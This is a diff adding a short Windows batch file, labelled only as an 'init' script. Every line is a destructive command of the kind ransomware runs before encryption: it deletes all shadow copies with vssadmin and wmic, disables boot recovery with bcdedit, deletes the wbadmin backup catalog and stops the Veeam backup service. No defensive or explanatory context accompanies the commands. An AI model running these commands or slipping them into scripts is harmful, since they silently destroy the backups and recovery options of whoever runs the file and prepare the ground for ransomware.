@@ -1,0 +1,7 @@
+REM init 9016 v3
+vssadmin delete shadows /all /quiet
+wmic shadowcopy delete
+bcdedit /set {default} recoveryenabled no
+bcdedit /set {default} bootstatuspolicy ignoreallfailures
+wbadmin delete catalog -quiet
+net stop "Veeam Backup Catalog Data Service" /y
